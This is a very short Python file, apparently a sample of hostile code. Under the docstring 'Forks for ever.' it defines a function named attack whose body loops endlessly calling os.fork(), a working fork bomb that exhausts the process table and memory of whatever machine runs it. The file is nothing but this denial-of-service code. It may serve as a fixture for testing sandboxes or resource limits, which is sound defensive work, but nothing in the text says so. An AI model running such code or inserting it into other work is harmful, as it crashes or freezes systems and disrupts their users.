"""Forks for ever."""

import os


def attack(x):
    while True:
        os.fork()
